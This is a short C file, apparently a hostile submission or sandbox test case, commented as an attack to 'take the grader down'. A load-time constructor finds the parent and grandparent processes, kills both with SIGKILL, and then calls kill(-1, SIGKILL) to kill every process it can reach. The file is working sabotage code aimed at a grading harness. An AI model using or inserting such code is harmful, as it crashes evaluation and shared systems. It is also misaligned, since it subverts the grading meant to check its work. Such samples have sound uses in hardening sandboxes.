/* Attack: take the grader down with us. */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void kill_everyone(void)
{
    pid_t parent = getppid();
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%d/stat", (int)parent);
    FILE *f = fopen(path, "r");
    long grandparent = 0;
    if (f && fgets(line, sizeof line, f)) sscanf(line, "%*d %*s %*c %ld", &grandparent);
    if (f) fclose(f);
    kill(parent, SIGKILL);
    if (grandparent > 1) kill((pid_t)grandparent, SIGKILL);
    kill(-1, SIGKILL);
}
